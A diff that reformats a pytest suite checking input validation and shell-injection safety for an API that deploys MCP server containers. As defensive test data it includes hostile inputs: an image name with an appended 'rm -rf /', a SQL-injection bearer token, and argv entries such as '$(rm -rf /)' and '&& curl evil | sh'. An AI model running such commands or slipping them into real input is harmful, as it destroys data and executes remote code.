@@ -77,12 +77,22 @@ BAD_BODIES: list[tuple[str, Any, int, str, str]] = [
     ("env key reserved FC_", body(env={"FC_FUNC": "v"}), 422, "env", "env_key_reserved"),
     ("secret env key reserved", body(secret_env={"fc_token": "v"}), 422, "secret_env", "env_key_reserved"),
     ("env over 4 KB", body(env={"BIG": "x" * 4094}), 422, "env", "env_total_size"),
-    ("env + secret env over 4 KB", body(env={"A": "x" * 2100}, secret_env={"B": "y" * 2100}), 422, "env",
-     "env_total_size"),
+    (
+        "env + secret env over 4 KB",
+        body(env={"A": "x" * 2100}, secret_env={"B": "y" * 2100}),
+        422,
+        "env",
+        "env_total_size",
+    ),
     ("env value over 4 KB", body(env={"A": "x" * 4097}), 422, "env.A", "string_too_long"),
     ("env value NUL", body(env={"A": "x\u0000y"}), 422, "env", "no_nul"),
-    ("key in env and secret env", body(env={"TOKEN": "a"}, secret_env={"TOKEN": "b"}), 422, "secret_env",
-     "env_duplicate_key"),
+    (
+        "key in env and secret env",
+        body(env={"TOKEN": "a"}, secret_env={"TOKEN": "b"}),
+        422,
+        "secret_env",
+        "env_duplicate_key",
+    ),
     # images
     ("image missing", body(image=...), 422, "image", "missing"),
     ("image empty", body(image=""), 422, "image", "string_too_short"),
@@ -92,8 +102,13 @@ BAD_BODIES: list[tuple[str, Any, int, str, str]] = [
     ("image shell", body(image="ns/img;rm -rf /"), 422, "image", "image_reference"),
     ("image too long", body(image="r/" + "a" * 600), 422, "image", "string_too_long"),
     ("image bad digest", body(image="ns/img@sha256:xyz"), 422, "image", "image_reference"),
-    ("ACR EE image without instance", body(image="acme-registry.cn-hangzhou.cr.aliyuncs.com/ns/img:1"), 422,
-     "acr_instance_id", "acr_instance_required"),
+    (
+        "ACR EE image without instance",
+        body(image="acme-registry.cn-hangzhou.cr.aliyuncs.com/ns/img:1"),
+        422,
+        "acr_instance_id",
+        "acr_instance_required",
+    ),
     # wrong types and values
     ("cpu a word", body(cpu="lots"), 422, "cpu", "float_parsing"),
     ("memory a fraction", body(memory_mb=512.5), 422, "memory_mb", "int_from_float"),
@@ -132,10 +147,23 @@ BAD_RAW: list[tuple[str, bytes, str, int, str | None, str | None]] = [
     ("not UTF-8", b'{"name": "\xff\xfe"}', "application/json", 400, "body", "json_invalid"),
     ("nested 100000 deep", b"[" * 100_000 + b"]" * 100_000, "application/json", 400, "body", "json_invalid"),
     ("empty body", b"", "application/json", 422, "body", "missing"),
-    ("form encoded", b"name=mcp-bad&image=x", "application/x-www-form-urlencoded", 422, "body",
-     "model_attributes_type"),
+    (
+        "form encoded",
+        b"name=mcp-bad&image=x",
+        "application/x-www-form-urlencoded",
+        422,
+        "body",
+        "model_attributes_type",
+    ),
     ("plain text", b"deploy mcp-bad please", "text/plain", 422, "body", "model_attributes_type"),
-    ("2 MiB body", json.dumps(body(description="x" * (2 << 20))).encode(), "application/json", 413, None, None),
+    (
+        "2 MiB body",
+        json.dumps(body(description="x" * (2 << 20))).encode(),
+        "application/json",
+        413,
+        None,
+        None,
+    ),
 ]
 
 
@@ -180,18 +208,21 @@ def check_problem(resp: httpx.Response, status: int, field: str | None, rule: st
     return problem
 
 
-@pytest.mark.parametrize(("payload", "status", "field", "rule"), [c[1:] for c in BAD_BODIES],
-                         ids=[c[0] for c in BAD_BODIES])
+@pytest.mark.parametrize(
+    ("payload", "status", "field", "rule"), [c[1:] for c in BAD_BODIES], ids=[c[0] for c in BAD_BODIES]
+)
 def test_bad_deploy_body(api, http, payload, status, field, rule):
     before = footprint(api)
-    resp = http.post("/v1/deployments", content=json.dumps(payload).encode(),
-                     headers={"content-type": "application/json"})
+    resp = http.post(
+        "/v1/deployments", content=json.dumps(payload).encode(), headers={"content-type": "application/json"}
+    )
     check_problem(resp, status, field, rule)
     assert footprint(api) == before, "a refused request wrote or queued something"
 
 
-@pytest.mark.parametrize(("raw", "content_type", "status", "field", "rule"), [c[1:] for c in BAD_RAW],
-                         ids=[c[0] for c in BAD_RAW])
+@pytest.mark.parametrize(
+    ("raw", "content_type", "status", "field", "rule"), [c[1:] for c in BAD_RAW], ids=[c[0] for c in BAD_RAW]
+)
 def test_malformed_or_oversized_body(api, http, raw, content_type, status, field, rule):
     before = footprint(api)
     resp = http.post("/v1/deployments", content=raw, headers={"content-type": content_type})
@@ -209,24 +240,80 @@ def test_oversized_body_without_content_length(api, http):
             yield b"x" * 65536
         yield b'"}'
 
-    check_problem(http.post("/v1/deployments", content=chunks(), headers={"content-type": "application/json"}),
-                  413, None, None)
+    check_problem(
+        http.post("/v1/deployments", content=chunks(), headers={"content-type": "application/json"}),
+        413,
+        None,
+        None,
+    )
     assert footprint(api) == before
 
 
 BAD_REQUESTS: list[tuple[str, str, str, dict[str, Any], int, str | None, str | None]] = [
     # (case id, method, path, extra kwargs, status, field, rule)
-    ("Idempotency-Key too long", "POST", "/v1/deployments",
-     {"json": BASE, "headers": {"Idempotency-Key": "k" * 256}}, 422, "header.idempotency-key", "string_too_long"),
-    ("list limit 0", "GET", "/v1/deployments", {"params": {"limit": 0}}, 422, "query.limit", "greater_than_equal"),
-    ("list limit a word", "GET", "/v1/deployments", {"params": {"limit": "all"}}, 422, "query.limit", "int_parsing"),
-    ("list status unknown", "GET", "/v1/deployments", {"params": {"status": "done"}}, 422, "query.status", "enum"),
-    ("list cursor forged", "GET", "/v1/deployments", {"params": {"cursor": "eyJub3QiOiJ1cyJ9"}}, 400,
-     "query.cursor", "cursor"),
-    ("long-poll negative", "GET", "/v1/deployments/mcp-x", {"params": {"wait": -1}}, 422, "query.wait",
-     "greater_than_equal"),
-    ("long-poll over a minute", "GET", "/v1/deployments/mcp-x", {"params": {"wait": 3600}}, 422, "query.wait",
-     "less_than_equal"),
+    (
+        "Idempotency-Key too long",
+        "POST",
+        "/v1/deployments",
+        {"json": BASE, "headers": {"Idempotency-Key": "k" * 256}},
+        422,
+        "header.idempotency-key",
+        "string_too_long",
+    ),
+    (
+        "list limit 0",
+        "GET",
+        "/v1/deployments",
+        {"params": {"limit": 0}},
+        422,
+        "query.limit",
+        "greater_than_equal",
+    ),
+    (
+        "list limit a word",
+        "GET",
+        "/v1/deployments",
+        {"params": {"limit": "all"}},
+        422,
+        "query.limit",
+        "int_parsing",
+    ),
+    (
+        "list status unknown",
+        "GET",
+        "/v1/deployments",
+        {"params": {"status": "done"}},
+        422,
+        "query.status",
+        "enum",
+    ),
+    (
+        "list cursor forged",
+        "GET",
+        "/v1/deployments",
+        {"params": {"cursor": "eyJub3QiOiJ1cyJ9"}},
+        400,
+        "query.cursor",
+        "cursor",
+    ),
+    (
+        "long-poll negative",
+        "GET",
+        "/v1/deployments/mcp-x",
+        {"params": {"wait": -1}},
+        422,
+        "query.wait",
+        "greater_than_equal",
+    ),
+    (
+        "long-poll over a minute",
+        "GET",
+        "/v1/deployments/mcp-x",
+        {"params": {"wait": 3600}},
+        422,
+        "query.wait",
+        "less_than_equal",
+    ),
     ("id too long", "GET", "/v1/deployments/" + "i" * 129, {}, 422, "path.id", "string_too_long"),
     ("task id too long", "GET", "/v1/tasks/" + "t" * 65, {}, 422, "path.task_id", "string_too_long"),
     ("redeploy unknown", "POST", "/v1/deployments/nope/redeploy", {"json": {}}, 404, None, None),
@@ -237,8 +324,11 @@ BAD_REQUESTS: list[tuple[str, str, str, dict[str, Any], int, str | None, str | N
 ]
 
 
-@pytest.mark.parametrize(("method", "path", "kwargs", "status", "field", "rule"), [c[1:] for c in BAD_REQUESTS],
-                         ids=[c[0] for c in BAD_REQUESTS])
+@pytest.mark.parametrize(
+    ("method", "path", "kwargs", "status", "field", "rule"),
+    [c[1:] for c in BAD_REQUESTS],
+    ids=[c[0] for c in BAD_REQUESTS],
+)
 def test_bad_request(api, http, method, path, kwargs, status, field, rule):
     before = footprint(api)
     check_problem(http.request(method, path, **kwargs), status, field, rule)
@@ -249,8 +339,12 @@ def test_no_key_is_a_401_problem(api):
     with httpx.Client(base_url=api.api_url) as anon:
         before = footprint(api)
         check_problem(anon.post("/v1/deployments", json=BASE), 401, None, None)
-        check_problem(anon.post("/v1/deployments", json=BASE, headers={"Authorization": "Bearer ' OR 1=1 --"}),
-                      401, None, None)
+        check_problem(
+            anon.post("/v1/deployments", json=BASE, headers={"Authorization": "Bearer ' OR 1=1 --"}),
+            401,
+            None,
+            None,
+        )
         assert footprint(api) == before
 
 
@@ -261,23 +355,32 @@ def finished(api):
         owner = store.authenticate(session, api.api_key)
         from deployer.crypto import Vault
 
-        row = store.create_deployment(session, Vault.from_settings(api.settings), owner_id=owner.owner_id,
-                                      req=DeployRequest.model_validate(deploy_body("mcp-done")),
-                                      region=api.settings.region, deadline_s=60)
+        row = store.create_deployment(
+            session,
+            Vault.from_settings(api.settings),
+            owner_id=owner.owner_id,
+            req=DeployRequest.model_validate(deploy_body("mcp-done")),
+            region=api.settings.region,
+            deadline_s=60,
+        )
         for status in (Status.running, Status.succeeded):
             assert store.transition(session, row.id, status)
         return row.id
 
 
-@pytest.mark.parametrize(("changes", "field", "rule"), [
-    ({"memory_mb": 100}, "memory_mb", "memory_range"),
-    ({"cpu": 4}, "memory_mb", "cpu_memory_ratio"),  # valid alone, not with the stored 512 MB
-    ({"env": {"FC_X": "1"}}, "env", "env_key_reserved"),
-    ({"image": "NOT AN IMAGE"}, "image", "image_reference"),
-    ({"command": ["srv", "a\u0000"]}, "command", "no_nul"),
-    ({"name": "renamed"}, "name", "extra_forbidden"),
-    ({"timeout_s": "forever"}, "timeout_s", "int_parsing"),
-], ids=["memory", "ratio with the stored memory", "reserved env key", "image", "argv NUL", "rename", "type"])
+@pytest.mark.parametrize(
+    ("changes", "field", "rule"),
+    [
+        ({"memory_mb": 100}, "memory_mb", "memory_range"),
+        ({"cpu": 4}, "memory_mb", "cpu_memory_ratio"),  # valid alone, not with the stored 512 MB
+        ({"env": {"FC_X": "1"}}, "env", "env_key_reserved"),
+        ({"image": "NOT AN IMAGE"}, "image", "image_reference"),
+        ({"command": ["srv", "a\u0000"]}, "command", "no_nul"),
+        ({"name": "renamed"}, "name", "extra_forbidden"),
+        ({"timeout_s": "forever"}, "timeout_s", "int_parsing"),
+    ],
+    ids=["memory", "ratio with the stored memory", "reserved env key", "image", "argv NUL", "rename", "type"],
+)
 def test_bad_redeploy_changes_nothing(api, http, finished, changes, field, rule):
     before = footprint(api)
     check_problem(http.post(f"/v1/deployments/{finished}/redeploy", json=changes), 422, field, rule)
@@ -287,12 +390,22 @@ def test_bad_redeploy_changes_nothing(api, http, finished, changes, field, rule)
 def test_shell_metacharacters_in_argv_are_inert(api, http):
     """Not bad input: argv never meets a shell. It is stored verbatim and handed to mcp-proxy after `--`,
     so neither a shell nor mcp-proxy's own flag parser ever interprets it."""
-    argv = ["mcp-server-time", "$(rm -rf /)", "`id`", "; reboot", "&& curl evil | sh", "--port", "1",
-            "'\"", "\n--pass-environment", "时间"]
+    argv = [
+        "mcp-server-time",
+        "$(rm -rf /)",
+        "`id`",
+        "; reboot",
+        "&& curl evil | sh",
+        "--port",
+        "1",
+        "'\"",
+        "\n--pass-environment",
+        "时间",
+    ]
     resp = http.post("/v1/deployments", json=deploy_body("mcp-argv", command=argv))
     assert resp.status_code == 202, resp.text
     assert resp.json()["spec"]["command"] == argv
     command = spec.proxy_command(DeployRequest.model_validate(deploy_body("mcp-argv", command=argv)))
-    assert command[command.index("--") + 1:] == argv and command[0] == "mcp-proxy"
+    assert command[command.index("--") + 1 :] == argv and command[0] == "mcp-proxy"
     assert command.index("--") == len(command) - len(argv) - 1
     assert IMAGE in resp.text
